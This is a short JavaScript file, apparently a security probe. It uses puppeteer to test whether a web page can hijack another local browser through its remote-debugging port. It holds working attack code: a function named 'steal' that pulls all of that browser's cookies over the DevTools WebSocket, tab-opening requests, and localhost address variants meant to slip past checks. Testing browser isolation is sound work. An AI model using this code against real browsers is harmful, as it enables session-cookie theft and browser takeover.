// Drives one browser and tries to take over another one of this machine by its debug port, and to read a server of this
// machine; tells how far each step came.
import puppeteer from 'puppeteer-core';
import { answer, input } from './input.mjs';

const { endpoint, port, path, server } = await input();
const browser = await puppeteer.connect({ browserWSEndpoint: endpoint, defaultViewport: null });
const page = await browser.newPage();

// show opens an address and tells what the page says.
const show = async (address) => {
  try {
    await page.goto(address);
    return await page.evaluate(() => document.body.innerText);
  } catch (error) {
    return `failed: ${error.message}`;
  }
};

// steal connects to a debugging server as a page does, and reads the cookies of all of its browser's pages.
const steal = (address) => page.evaluate((address) => new Promise((done) => {
  const socket = new WebSocket(address);
  socket.onerror = () => done('failed');
  socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: 'Storage.getCookies' }));
  socket.onmessage = (event) => done(event.data);
}), address);

// openTab asks a debugging server for a tab.
const openTab = (address) => page.evaluate(async (address) => {
  try {
    return String((await fetch(address, { method: 'PUT' })).status);
  } catch {
    return 'failed';
  }
}, address);

const found = {};
for (const host of ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]']) {
  found[host] = {
    version: await show(`http://${host}:${port}/json/version`),
    cookies: await steal(`ws://${host}:${port}${path}`),
    tab: await openTab(`http://${host}:${port}/json/new?about:blank`),
    server: await show(server.replace('127.0.0.1', host)),
  };
}
answer(found);
await page.close();
await browser.disconnect();
